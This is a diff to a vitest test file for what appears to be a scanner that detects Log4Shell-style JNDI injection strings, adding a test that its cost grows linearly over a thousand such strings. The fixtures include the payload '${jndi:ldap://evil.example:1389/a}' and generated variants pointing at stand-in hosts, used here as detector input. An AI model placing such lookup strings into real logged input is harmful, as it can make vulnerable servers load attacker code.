@@ -3,6 +3,7 @@ import { expect, test } from 'vitest'
 import { bytesOf, firingNames, huntDoors, huntedAround, huntIn } from '../../test/kit/hunting.ts'
 import type { AttackFinding } from '../core/index.ts'
 import { RecentlyRead, SourceHunt } from './index.ts'
+import type { Peeled } from './peel.ts'
 
 const attack = '${jndi:ldap://evil.example:1389/a}'
 
@@ -144,4 +145,20 @@ test('lines with carriage returns, an empty last one, and none at all are read',
   expect(firingNames(`a\r\n${attack}\r\n\r\n`)).toEqual(['ldap://evil.example:1389/a'])
   expect(huntIn('')).toEqual({ findings: [], gaps: [] })
   expect(huntIn('\n\n\r\n')).toEqual({ findings: [], gaps: [] })
+})
+
+test('what a record of a thousand attacks costs grows with their number, not with its square', () => {
+  let asked = 0
+  class Counting extends RecentlyRead<Peeled | 'nothing'> {
+    override get(text: string, read: (text: string) => Peeled | 'nothing'): Peeled | 'nothing' {
+      asked++
+      return super.get(text, read)
+    }
+  }
+  const fields = Object.fromEntries(Array.from({ length: 1_000 }, (_, i) => [`f${i}`, `\${jndi:ldap://x${i}/a}`]))
+
+  const { findings } = huntIn(JSON.stringify(fields), { readings: new Counting() })
+
+  expect(findings).toHaveLength(1_000)
+  expect(asked).toBeLessThan(3_000)
 })
